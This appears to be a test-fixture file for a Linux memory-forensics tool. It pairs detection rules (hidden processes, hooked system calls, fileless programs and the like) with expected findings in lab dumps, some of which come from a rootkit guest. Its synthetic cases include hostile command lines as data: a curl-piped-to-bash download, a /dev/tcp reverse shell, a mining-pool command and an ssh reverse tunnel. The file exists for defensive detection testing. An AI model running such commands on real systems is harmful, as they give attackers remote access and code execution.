"""What shows that the rules for Linux find what they speak of, and what of the lab they speak of.

The guests' processes are known by their numbers in the sample, and by what truth.json calls them
(`named_pids`) in all guests.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from tests.lab import DUMPS, OTHER_FORMS
from tests.playbooks import guest_proofs
from tests.playbooks.proof import Proof

if TYPE_CHECKING:
    from collections.abc import Mapping

SAMPLE = "deb12-6.1-small.lime"
"""The sample of the repository."""
ROOTKIT = "deb12-6.1-rootkit.lime"
MODULE = "deb12-6.1-small.module.lime"
"""The sample's guest again, whose memory was taken by a kernel module in it."""
CHANGED = "deb12-6.1-small, changed"
"""The sample with bytes changed (linux_planted.py)."""
REAL = (*DUMPS, *OTHER_FORMS)
"""All dumps of real guests."""

Row = dict[str, Any]


def _of(pid: int, **more: Any) -> Row:
    return {"pid": pid, **more}


def _in(pid: int, **more: Any) -> Row:
    return {"process": {"pid": pid}, **more}


def _real(rule: str, planted: str, *rows: Row, image: str = SAMPLE) -> Proof:
    return Proof(f"linux/{rule}", image, rows, planted, is_real=True)


def _made(rule: str, planted: str, *rows: Row) -> Proof:
    return Proof(f"linux/{rule}", CHANGED, rows, planted, is_real=False)


_ON_SYSTEMS = (
    _real(
        "traced-process",
        "a process that another one traces by ptrace",
        _of(346, name="labp", tracer_pid=328, tracer="labp"),
    ),
    _real(
        "borrowed-credentials",
        "the task memq-cred, which was given init_cred",
        _of(358, name="memq-cred", uid=0),
        image=ROOTKIT,
    ),
    _real(
        "writable-executable-memory",
        "code written into memory that may be written and executed",
        _in(316, start="0x7f66f5b20000", size=12288, protection="rwx"),
    ),
    _real(
        "executable-anonymous-memory",
        "code in memory that was made executable after it was written",
        _in(316, start="0x7f66f5b1e000", size=8192, protection="r-x"),
    ),
    _real(
        "program-in-memory-only",
        "a program in a memfd, and one that was deleted in /tmp",
        _of(301, exe="/tmp/evil", image_is_deleted=True),
        _of(327, exe="/memfd:payload", image_is_deleted=True),
    ),
    _real(
        "deleted-program",
        "a program that was deleted while it runs",
        _of(301, name="evil", exe="/tmp/evil"),
    ),
    _real(
        "kernel-thread-name",
        "a program called `[kworker/0:9]`, and one whose first argument is `[kthreadd]`",
        _of(319, name="[kworker/0:9]", exe="/opt/lab/labp", parent={"name": "scenario.sh"}),
        _of(327, command_line="[kthreadd] 100000", exe="/memfd:payload"),
    ),
    _real("program-in-temporary-folder", "a program in /tmp", _of(301, exe="/tmp/evil")),
    _real(
        "foreign-library",
        "a library in /opt, loaded by LD_PRELOAD",
        _in(320, file_name="/opt/lab/libpre.so", is_deleted=False),
    ),
    _real(
        "bpf-descriptor",
        "a program and a map of eBPF on a socket",
        _in(332, descriptor=4, kind="bpf-map"),
        _in(332, descriptor=5, kind="bpf-prog"),
    ),
    _real(
        "deleted-open-file",
        "a file that was deleted while it is open",
        _in(315, descriptor=6, name="/var/lib/lab/gone.txt"),
    ),
    _real(
        "hidden-process",
        "a process that a rootkit took off the list of tasks",
        _of(350, name="memq-hidden", in_task_list=False, in_pid_table=True),
        image=ROOTKIT,
    ),
    _real(
        "hooked-system-call",
        "two system calls that a rootkit has replaced",
        {"table": "64-bit", "index": 62, "name": "kill", "module": None},
        {"table": "64-bit", "index": 217, "name": "getdents64", "module": None},
        image=ROOTKIT,
    ),
    _real(
        "vanished-module",
        "the module of a rootkit, which took itself off the list",
        {"release": "6.1.0-56-cloud-amd64", "taints": "OE"},
        image=ROOTKIT,
    ),
    _real(
        "tainting-module",
        "the module that took the dump",
        {"name": "lime", "taints": "OE"},
        image=MODULE,
    ),
)

_IN_COPIES = (
    _made(
        "borrowed-credentials",
        "a process that was given the credentials of the kernel's first task",
        _of(358),
    ),
    _made(
        "executable-stack-or-heap",
        "a stack that may be executed",
        _in(304, name="[stack]", protection="rwx"),
    ),
    _made(
        "code-in-memory-file",
        "code of a memfd, mapped by another program",
        _in(305, file_name="/memfd:payload", protection="r-x"),
    ),
    _made(
        "library-in-temporary-folder",
        "a file in /tmp, mapped as code",
        _in(321, file_name="/tmp/evil", is_deleted=True),
    ),
    _made(
        "deleted-library",
        "a deleted file, mapped as code",
        _in(321, file_name="/tmp/evil", size=20480),
    ),
    _made(
        "child-of-kernel-thread",
        "a process whose parent is kthreadd",
        _of(333, ppid=2, parent={"name": "kthreadd"}),
    ),
    _made(
        "program-in-hidden-folder",
        "programs in a folder called `.lb`",
        _of(355, exe="/run/.lb/memq-hidden"),
        _of(361, exe="/run/.lb/memq-cred"),
    ),
    _made(
        "hidden-process",
        "a process that is off the list of tasks",
        _of(332, in_task_list=False, in_pid_table=True),
    ),
    _made(
        "hooked-system-call",
        "a system call that leads into a module",
        {"table": "64-bit", "index": 62, "name": "kill", "module": "dummy"},
    ),
    _made(
        "vanished-module",
        "taints of the kernel that no module has",
        {"taints": "OE"},
    ),
    _made("tainting-module", "a module that is proprietary", {"name": "dummy", "taints": "P"}),
    _made(
        "daemon-elsewhere",
        "a program called `sshd` in /opt, and a Python called `cron`",
        _of(309, name="sshd", exe="/opt/lab/labp"),
        _of(357, name="cron", exe="/usr/bin/python3.11"),
    ),
    _made(
        "shell-on-socket",
        "a shell whose input and output are a socket, and a Python to which sshd gave one",
        _of(260, exe="/usr/bin/bash", socket="socket:[11697]"),
    ),
    _made(
        "shell-of-server",
        "a shell whose parent is called `nginx`",
        _of(260, command_line="-bash", parent={"name": "nginx"}),
    ),
    _made(
        "memory-device-open",
        "a process with /proc/1/mem open",
        _in(1, descriptor=10, name="/proc/1/mem"),
    ),
    _made(
        "password-file-open",
        "a process with /etc/shadow open",
        _in(315, descriptor=4, name="/etc/shadow"),
    ),
    _made(
        "keyboard-device-open",
        "a process with /dev/input/event0 open",
        _in(315, descriptor=5, name="/dev/input/event0"),
    ),
    _made(
        "packet-ring",
        "a socket mapped into memory",
        _in(330, file_name="socket:[11697]", size=40960),
    ),
    _made(
        "root-of-user",
        "a process of root whose parent is a user's",
        _of(317, parent={"name": "labp", "uid": 1000}),
    ),
    _made(
        "downloaded-and-run",
        "what curl fetches, piped into a shell",
        _of(326, command_line="sh -c curl -fsSL http://192.0.2.7/x | bash"),
    ),
    _made(
        "reverse-shell-command",
        "a shell on /dev/tcp",
        _of(324, command_line="bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"),
    ),
    _made(
        "miner",
        "arguments with a pool's address",
        _of(351, command_line="runuser -o stratum+tcp://192.0.2.7:3333 -u wallet -p x"),
    ),
    _made(
        "tunnel",
        "ssh with a port of the other side",
        _of(318, name="ssh", command_line="ssh -N -R 2222:localhost:22 u@192.0.2.7"),
    ),
    _made(
        "script-in-temporary-folder",
        "a shell with a script in /tmp",
        _of(218, command_line="/bin/bash /tmp/lab/scenario.sh"),
    ),
)

PROOFS: tuple[Proof, ...] = (*_ON_SYSTEMS, *guest_proofs.PROOFS, *_IN_COPIES)

PLANTED: Mapping[str, tuple[str, ...]] = {
    "deleted-exe": ("program-in-memory-only", "deleted-program", "program-in-temporary-folder"),
    "fileless": ("program-in-memory-only", "kernel-thread-name"),
    "fake-kworker": ("kernel-thread-name",),
    "rwx": ("writable-executable-memory", "executable-anonymous-memory"),
    "ld-preload": ("foreign-library",),
    "bpf": ("bpf-descriptor",),
    "open-files": ("deleted-open-file",),
    # What memq knows of a socket is its number: not its family, addresses or state.
    **dict.fromkeys(("raw-sockets", "tcp-c2", "tcp-connect", "tcp-listen", "tcp6-listen"), ()),
    **dict.fromkeys(("udp", "unix-connect", "unix-listen"), ()),
    "ptrace": ("traced-process",),
    # Neither namespaces nor capabilities are fields.
    **dict.fromkeys(("namespace-unshare", "caps"), ()),
    # Its credentials are taken from another in the guest with the rootkit only.
    "to-share-cred": (),
    # Hidden in the guest with the rootkit only.
    "to-hide": (),
    # Nothing that a rule would speak of.
    **dict.fromkeys(("anon-fds", "env", "fifo", "heap-runuser", "long-cmdline"), ()),
    **dict.fromkeys(("pipe-parent", "python-runuser", "shm", "sigmask", "stopped"), ()),
    **dict.fromkeys(("threads", "zombie-parent"), ()),
}
"""The rules that speak of what was planted in all guests, by its name in truth.json."""
PLANTED_BY_ROOTKIT: Mapping[str, tuple[str, ...]] = {
    "to-hide": ("hidden-process",),
    "to-share-cred": ("borrowed-credentials",),
}
"""The same of what only the guest with the rootkit has besides."""
OF_CHILDREN = ("borrowed-credentials", "traced-process")
"""Rules that speak of the child of the process that truth.json names."""
